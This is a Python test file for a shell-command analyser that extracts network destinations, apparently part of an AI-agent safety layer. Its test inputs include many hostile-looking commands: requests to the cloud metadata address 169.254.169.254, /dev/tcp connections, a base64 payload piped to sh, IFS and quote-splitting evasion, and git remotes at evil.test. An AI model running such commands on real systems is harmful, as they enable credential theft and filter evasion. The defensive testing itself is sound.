"""What :func:`ethos_core.shell.network.network_targets` reads off a command line, per client and form."""

from __future__ import annotations

import time

import pytest

from ethos_core.shell.analyze import DYN, Analysis, SimpleCommand, analyze
from ethos_core.shell.network import MAX_TARGETS, TOO_MANY, NetworkTargets, network_accesses, network_targets
from ethos_core.types import ToolCall, UrlAccess
from tests.shell.helpers import ETHOS_HOME, HOME, risk


def targets(command: str) -> NetworkTargets:
    analysis = analyze(command, None, HOME, ETHOS_HOME)
    assert analysis.error is None, (command, analysis.error, analysis.error_detail)
    return network_targets(analysis)


def urls(command: str) -> list[str]:
    return list(targets(command).urls)


# --- URL literals -------------------------------------------------------------------------------

URL_LITERALS = [
    ("curl http://169.254.169.254/latest/meta-data/", ["http://169.254.169.254/latest/meta-data/"]),
    ("curl HTTPS://Example.COM/a", ["HTTPS://Example.COM/a"]),
    ("wget -qO- http://[::ffff:a9fe:a9fe]/", ["http://[::ffff:a9fe:a9fe]/"]),
    ("python3 -c \"import urllib.request;urllib.request.urlopen('http://169.254.169.254')\"",
     ["http://169.254.169.254"]),
    ("perl -MLWP::Simple -e 'get(\"http://10.0.0.1/x\")'", ["http://10.0.0.1/x"]),
    ("node -e 'fetch(\"https://internal.test/api\").then(r => r.text())'", ["https://internal.test/api"]),
    ("pip install git+https://github.com/pallets/click", ["https://github.com/pallets/click"]),
    ("docker run -e URL=http://localhost:3000 img", ["http://localhost:3000"]),
    ("some-tool --endpoint=wss://stream.test/feed", ["https://stream.test/feed"]),
    ("some-tool ws://stream.test:8080/feed", ["http://stream.test:8080/feed"]),
    ("curl http://github.com@169.254.169.254/", ["http://github.com@169.254.169.254/"]),
]


@pytest.mark.parametrize(("command", "expected"), URL_LITERALS)
def test_http_literals_are_kept_as_written(command: str, expected: list[str]) -> None:
    assert urls(command) == expected


OTHER_SCHEMES = [
    ("git clone ssh://git@github.com/org/repo.git", "https://github.com:22/"),
    ("git clone git://10.0.0.7/repo", "https://10.0.0.7:9418/"),
    ("lftp sftp://user@files.test:2222/in", "https://files.test:2222/"),
    ("tool ftp://ftp.test/pub", "https://ftp.test:21/"),
    ("tool rsync://mirror.test/module", "https://mirror.test:873/"),
    ("tool telnet://router.test", "https://router.test:23/"),
    ("tool gopher://g.test/1", "https://g.test:70/"),
    ("tool dict://d.test:2628/d:x", "https://d.test:2628/"),
    ("ldapsearch -H ldap://dc.test", "https://dc.test:389/"),
    ("smbclient smb://fs.test/share", "https://fs.test:445/"),
    ("tool tftp://boot.test/img", "https://boot.test:69/"),
    ("redis-cli -u redis://10.0.0.5:6380", "https://10.0.0.5:6380/"),
    ("psql postgres://u:p@db.internal/x", "https://db.internal:5432/"),
    ("mysql --url mysql://root@db.test/x", "https://db.test:3306/"),
    ("mongosh mongodb://a.test:27018,b.test/db", "https://a.test:27018/"),
    ("tool SSH://Host.Test", "https://Host.Test:22/"),
]


@pytest.mark.parametrize(("command", "expected"), OTHER_SCHEMES)
def test_other_schemes_become_https_host_port(command: str, expected: str) -> None:
    assert expected in urls(command)


def test_mongodb_host_list_gives_every_host() -> None:
    assert urls("mongosh mongodb://a.test:27018,b.test/db") == ["https://a.test:27018/", "https://b.test:27017/"]


def test_file_urls_and_unknown_schemes_are_not_targets() -> None:
    assert urls("python3 -c \"open('file:///etc/hosts')\"") == []
    assert urls("aws s3 cp x s3://bucket/key") == []
    assert urls("tool C:\\Users\\x") == []


def test_text_tools_print_urls_they_do_not_fetch() -> None:
    for command in ('grep -rn "http://localhost:8080" src/', "echo http://169.254.169.254",
                    "sed -i 's|http://localhost|https://prod.test|' conf.ini", 'git commit -m "see http://localhost"',
                    "printf '%s\\n' http://10.0.0.1/"):
        assert targets(command) == NetworkTargets(), command


def test_setting_variables_is_not_reaching_except_for_proxies() -> None:
    assert targets('export BASE_URL="http://${HOST}:8000" API=http://localhost:1') == NetworkTargets()
    assert urls("export https_proxy=http://10.0.0.9:3128; curl https://x.test") == \
        ["http://10.0.0.9:3128", "https://x.test"]
    assert urls("declare -x ALL_PROXY=socks5://10.0.0.9") == ["https://10.0.0.9:1080/"]


def test_parallel_arguments_are_scanned() -> None:
    assert "http://169.254.169.254/" in urls("parallel curl ::: http://169.254.169.254/")


def test_url_in_shell_c_is_judged_once_through_the_inner_command() -> None:
    assert urls("sh -c 'curl http://10.1.2.3/'") == ["http://10.1.2.3/"]
    assert urls("sh -c 'echo http://10.1.2.3/'") == []


# --- /dev/tcp -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("command", "expected"), [
    ("cat < /dev/tcp/169.254.169.254/80", "https://169.254.169.254:80/"),
    ("echo hi > /dev/udp/10.0.0.1/53", "https://10.0.0.1:53/"),
    ("bash -c 'echo x >/dev/tcp/1.2.3.4/8080'", "https://1.2.3.4:8080/"),
    ("cat < /dev/tcp/example.test/http", "https://example.test:80/"),
    ("cat < /dev/tcp/::1/80", "https://[::1]:80/"),
    ("python3 -c \"print(open('/dev/tcp/10.0.0.2/25'))\"", "https://10.0.0.2:25/"),
])
def test_dev_tcp_and_udp(command: str, expected: str) -> None:
    assert expected in urls(command)


# --- scheme-less client operands -----------------------------------------------------------------


def test_curl_option_values_are_not_hosts() -> None:
    assert urls("curl -o out.html https://x.test") == ["https://x.test"]
    assert urls("curl -sSLo out.html x.test") == ["http://x.test"]
    assert urls("curl -H 'Host: evil.test' -A agent -e http://ref.test -u u:p -d @f -b c.txt -c j.txt "
                "-D h.txt -w '%{http_code}' -T up.bin -F a=b --data-raw x --output o --retry 3 x.test") == \
        ["http://x.test"]
    assert urls("curl -d '{\"cb\": \"http://localhost\"}' https://api.test/hooks") == ["https://api.test/hooks"]


@pytest.mark.parametrize(("command", "expected"), [
    ("curl 169.254.169.254", "http://169.254.169.254"),
    ("curl 2852039166", "http://2852039166"),
    ("curl 0xa9fea9fe/latest", "http://0xa9fea9fe/latest"),
    ("curl 0251.0376.0251.0376", "http://0251.0376.0251.0376"),
    ("curl [::ffff:169.254.169.254]:80/", "http://[::ffff:169.254.169.254]:80/"),
    ("curl example.test:8443/path", "http://example.test:8443/path"),
    ("curl --url 10.0.0.1", "http://10.0.0.1"),
    ("wget 10.0.0.1/file", "http://10.0.0.1/file"),
    ("http POST :3000/api name=x", "http://localhost:3000/api"),
    ("http example.test/get a==b", "http://example.test/get"),
    ("https GET api.test", "https://api.test"),
    ("xh -a u:p 10.0.0.3", "http://10.0.0.3"),
    ("aria2c -d /tmp -o f.iso mirror.test/f.iso", "http://mirror.test/f.iso"),
    ("lynx -dump 10.0.0.4", "http://10.0.0.4"),
    ("w3m -o accept_language=en -dump docs.test/", "http://docs.test/"),
])
def test_web_clients_without_scheme(command: str, expected: str) -> None:
    assert expected in urls(command)


def test_browsers_and_aria2c_open_local_files_without_judging_them() -> None:
    assert urls("w3m index.html") == []
    assert urls("lynx README.md") == []
    assert urls("aria2c ./ubuntu.torrent") == []


@pytest.mark.parametrize(("command", "expected"), [
    ("curl -x 169.254.169.254:3128 https://example.test", "https://169.254.169.254:3128/"),
    ("curl --proxy http://10.0.0.9:8080 https://example.test", "http://10.0.0.9:8080"),
    ("curl --socks5-hostname 10.0.0.9 https://example.test", "https://10.0.0.9:1080/"),
    ("curl --preproxy socks5://10.0.0.8 https://example.test", "https://10.0.0.8:1080/"),
    ("curl --connect-to ::169.254.169.254:80 http://allowed.test/", "https://169.254.169.254:80/"),
    ("curl --resolve allowed.test:443:169.254.169.254 https://allowed.test/", "https://169.254.169.254:443/"),
    ("curl --doh-url https://10.0.0.53/dns-query https://example.test", "https://10.0.0.53/dns-query"),
    ("http_proxy=http://169.254.169.254 curl https://x.test", "http://169.254.169.254"),
    ("wget -e https_proxy=10.0.0.9:3128 https://x.test", "https://10.0.0.9:3128/"),
    ("aria2c --all-proxy=10.0.0.9:8000 https://x.test/f", "https://10.0.0.9:8000/"),
    ("nc -x 10.0.0.9:1080 example.test 80", "https://10.0.0.9:1080/"),
    ("ncat --proxy 10.0.0.9:3128 example.test 80", "https://10.0.0.9:3128/"),
])
def test_proxies_and_connection_overrides_are_targets(command: str, expected: str) -> None:
    assert expected in urls(command)


@pytest.mark.parametrize(("command", "expected"), [
    ("nc 169.254.169.254 80", ["https://169.254.169.254:80/"]),
    ("nc -w 3 -p 4444 10.0.0.1 22", ["https://10.0.0.1:22/"]),
    ("netcat -zv 10.0.0.1 20-30", ["https://10.0.0.1:20/", "https://10.0.0.1:30/"]),
    ("ncat 10.0.0.1", ["https://10.0.0.1:31337/"]),
    ("telnet 10.0.0.1", ["https://10.0.0.1:23/"]),
    ("telnet -l root 10.0.0.1 2323", ["https://10.0.0.1:2323/"]),
    ("socat - TCP:169.254.169.254:80", ["https://169.254.169.254:80/"]),
    ("socat TCP6:[fd00:ec2::254]:80,crlf -", ["https://[fd00:ec2::254]:80/"]),
    ("socat - SOCKS4A:10.0.0.9:db.test:5432,socksport=9050", ["https://10.0.0.9:9050/", "https://db.test:5432/"]),
    ("socat OPENSSL:api.test:443 STDIO", ["https://api.test:443/"]),
])
def test_raw_tcp_clients(command: str, expected: list[str]) -> None:
    assert urls(command) == expected


def test_listeners_and_unix_sockets_are_not_targets() -> None:
    assert urls("nc -l 8080") == []
    assert urls("nc -l -p 8080") == []
    assert urls("nc -U /tmp/sock") == []
    assert urls("socat TCP-LISTEN:8080,fork STDOUT") == []


@pytest.mark.parametrize(("command", "expected"), [
    ("ssh deploy@example.test", ["https://example.test:22/"]),
    ("ssh -p 2222 -i key deploy@example.test uptime", ["https://example.test:2222/"]),
    ("ssh -o Port=2200 example.test", ["https://example.test:2200/"]),
    ("ssh -J jump.test:2022 inner.test", ["https://jump.test:2022/", "https://inner.test:22/"]),
    ("ssh -o HostName=169.254.169.254 alias", ["https://169.254.169.254:22/"]),
    ("ssh ssh://u@h.test:2201", ["https://h.test:2201/"]),
    ("scp -P 2200 f.txt user@host.test:/tmp/", ["https://host.test:2200/"]),
    ("scp user@[fd00::5]:/etc/x .", ["https://[fd00::5]:22/"]),
    ("scp ./a:b ./c", []),
    ("sftp -P 2022 u@files.test", ["https://files.test:2022/"]),
    ("sftp files.test:/in", ["https://files.test:22/"]),
    ("rsync -av src/ backup/src/", []),
    ("rsync -av -e 'ssh -p 2022' src/ u@h.test:dst/", ["https://h.test:2022/"]),
    ("rsync -av h.test::module/ dst/", ["https://h.test:873/"]),
    ("rsync --port 8730 -av h.test::module/ dst/", ["https://h.test:8730/"]),
])
def test_ssh_family(command: str, expected: list[str]) -> None:
    assert urls(command) == expected


@pytest.mark.parametrize(("command", "expected"), [
    ("git clone git@github.com:org/repo.git", ["https://github.com:22/"]),
    ("git clone --depth 1 -b main https://github.com/org/repo dir", ["https://github.com/org/repo"]),
    ("git -C /w clone -o up github.com:org/repo", ["https://github.com:22/"]),
    ("git fetch git@10.0.0.1:repo main", ["https://10.0.0.1:22/"]),
    ("git pull https://git.test/r.git main", ["https://git.test/r.git"]),
    ("git push --repo=ssh://git@h.test/r main", ["https://h.test:22/"]),
    ("git ls-remote evil.test:repo", ["https://evil.test:22/"]),
    ("git remote add evil http://169.254.169.254/x", ["http://169.254.169.254/x"]),
    ("git remote set-url origin git@evil.test:x.git", ["https://evil.test:22/"]),
    ("git submodule add git@evil.test:x.git vendor/x", ["https://evil.test:22/"]),
    ("git -c http.proxy=http://127.0.0.1:9 fetch", ["http://127.0.0.1:9"]),
    ("git config remote.origin.url http://10.0.0.1/r", ["http://10.0.0.1/r"]),
    ("git push origin main:main", []),
    ("git fetch --all --prune", []),
    ("git clone ../local-repo copy", []),
    ("git log --grep http://localhost", []),
])
def test_git(command: str, expected: list[str]) -> None:
    assert urls(command) == expected


# --- wrappers, payloads and expansion -------------------------------------------------------------


@pytest.mark.parametrize("command", [
    "env A=1 curl 169.254.169.254",
    "sudo -u nobody curl 169.254.169.254",
    "timeout 5 curl 169.254.169.254",
    "echo 169.254.169.254 | xargs curl",
    "echo Y3VybCAxNjkuMjU0LjE2OS4yNTQ= | base64 -d | sh",
    "curl${IFS}169.254.169.254",
    'c"ur"l "169.254"."169.254"',
    "h=169.254.169.254; curl $h",
    "python3 -c 'import os; os.system(\"curl 169.254.169.254\")'",
    "find . -maxdepth 0 -exec curl 169.254.169.254 \\;",
])
def test_wrappers_payloads_and_expansion_are_peeled(command: str) -> None:
    assert "http://169.254.169.254" in urls(command)


# --- dynamic destinations ---------------------------------------------------------------------------


@pytest.mark.parametrize("command", [
    'curl "$URL"',
    "curl $(cat url.txt)",
    "curl http://$HOST/x",
    "cat urls.txt | xargs curl",
    "wget -i urls.txt",
    "curl -K opts.txt",
    "ssh $HOST",
    "nc $H 80",
    "cat < /dev/tcp/$H/80",
    "git clone $REPO",
    "python3 -c 'import requests; requests.get(\"http://\" + host)'",
    "python3 -c 'import requests; requests.get(f\"http://{host}/x\")'",
    "ssh -o ProxyCommand='nc %h %p' box.test",
])
def test_dynamic_destinations(command: str) -> None:
    found = targets(command)
    assert found.dynamic, command
    assert risk(command).rule in ("risk.network_dynamic", "risk.exfiltration", "risk.obfuscation")
    assert not risk(command).allowed


def test_dynamic_client_destination_needs_approval_with_its_own_rule() -> None:
    decision = risk('curl "$URL"')
    assert decision.rule == "risk.network_dynamic" and decision.risk == "medium"


def test_dynamic_path_keeps_the_static_host() -> None:
    found = targets("curl https://api.github.com/repos/$REPO")
    assert found.urls == ("https://api.github.com/repos/",) and found.dynamic == ()


def test_static_stdin_config_and_url_lists() -> None:
    assert "http://169.254.169.254" in urls("echo 'url = \"http://169.254.169.254\"' | curl -K -")
    assert "http://10.0.0.1" in urls("printf 'url = 10.0.0.1\\n' | curl -K -")
    assert "http://10.0.0.2/a" in urls("echo 10.0.0.2/a | wget -i -")
    assert "http://10.0.0.3/" in urls("python3 - <<'EOF'\nimport urllib.request\n"
                                      "urllib.request.urlopen('http://10.0.0.3/')\nEOF")


# --- bounds --------------------------------------------------------------------------------------


def test_at_most_32_targets_then_one_dynamic_entry() -> None:
    command = "curl " + " ".join(f"h{i}.test" for i in range(100))
    found = targets(command)
    assert len(found.urls) == MAX_TARGETS
    assert TOO_MANY in found.dynamic
    assert risk(command).rule == "risk.network_dynamic"


def _synthetic(word: str, name: str = "tool") -> Analysis:
    return Analysis("synthetic", (SimpleCommand((name, word)),))


MEGABYTE_WORDS = {
    "long-scheme": "a" * (1 << 20) + "://x.test",
    "many-literals": "http:/" * 175_000,
    "many-distinct-literals": "".join(f"http://h{i}.test/ " for i in range(60_000)),
    "colons": ":" * (1 << 20),
    "dev-tcp": "/dev/tcp/" * 120_000,
    "plain": "x" * (1 << 20),
    "long-authority": "http://" + "a" * (1 << 20),
    "scheme-chars": ("a+" * 16) * 33_000 + "://",
    "percent": "http://" + "%" * (1 << 20),
    "at-signs": "ssh://" + "@" * (1 << 20),
}


@pytest.mark.parametrize("word", list(MEGABYTE_WORDS.values()), ids=list(MEGABYTE_WORDS))
def test_linear_on_megabyte_words(word: str) -> None:
    start = time.perf_counter()
    network_targets(_synthetic(word))
    network_targets(_synthetic(word, "curl"))
    network_targets(_synthetic(word, "ssh"))
    assert time.perf_counter() - start < 5.0  # a quadratic scan takes minutes here


def test_many_positionals_are_bounded() -> None:
    cmd = SimpleCommand(("curl", *(f"h{i}.test" for i in range(200_000))))
    start = time.perf_counter()
    found = network_targets(Analysis("synthetic", (cmd,)))
    assert len(found.urls) == MAX_TARGETS and TOO_MANY in found.dynamic
    assert time.perf_counter() - start < 5.0


# --- the call-level API --------------------------------------------------------------------------


def test_network_accesses_for_calls() -> None:
    call = ToolCall("shell", {"command": "curl 10.0.0.1 https://x.test"}, capabilities={"exec"})
    accesses, dynamic = network_accesses(call, HOME, ETHOS_HOME)
    assert accesses == (UrlAccess(url="http://10.0.0.1", tool="shell"), UrlAccess(url="https://x.test", tool="shell"))
    assert dynamic == ()
    assert network_accesses(ToolCall("read_file", {"path": "/x"}), HOME) == ((), ())
    assert network_accesses(ToolCall("shell", {"command": "echo 'unterminated"}), HOME) == ((), ())
    argv_call = ToolCall("runner", {"command": ["curl", "10.0.0.2"]}, capabilities={"exec"})
    assert network_accesses(argv_call, HOME)[0] == (UrlAccess(url="http://10.0.0.2", tool="runner"),)


def test_dynamic_marker_never_reaches_a_url() -> None:
    for command in ("curl https://api.test/$X", "curl https://$U@api.test/", "tool http://a.test/$P"):
        assert all(DYN not in u for u in urls(command)), command
